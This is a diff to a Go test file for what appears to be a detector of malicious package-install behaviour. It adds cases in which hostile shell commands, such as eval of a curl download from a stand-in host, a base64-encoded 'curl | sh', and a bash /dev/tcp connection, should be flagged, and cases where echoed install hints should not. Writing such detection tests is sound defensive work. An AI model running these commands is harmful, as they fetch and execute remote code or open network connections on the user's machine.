@@ -143,6 +143,9 @@ func TestRules(t *testing.T) {
 		{"base64 decoded into a shell", func(r *Recorder) {
 			script(r, evilEnv, "echo Y3VybCB4fHNo | base64 -d | sh")
 		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
+		{"eval of a download in double quotes", func(r *Recorder) {
+			script(r, evilEnv, `eval "$(curl -fsSL https://x.example/s)" || true`)
+		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
 		{"bash /dev/tcp", func(r *Recorder) {
 			script(r, evilEnv, "exec 3<>/dev/tcp/203.0.113.9/443 || true")
 		}, "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high\n"},
@@ -160,6 +163,8 @@ func TestRules(t *testing.T) {
 				{"node", "install.js"},
 				{"sh", "-c", "node ./scripts/postinstall.js || echo 'curl is not needed'"},
 				{"sh", "-c", "test -f dist/x || (echo building; npm run build)"},
+				{"sh", "-c", "node hint.js || echo 'install bun: curl -fsSL https://bun.sh/install | bash'"},
+				{"sh", "-c", `echo "or: wget -qO- https://x.example/i | sh" >&2`},
 			} {
 				r.OnEvent(execEv(30+i%2, env, "/p/node_modules/bcrypt", argv...))
 			}
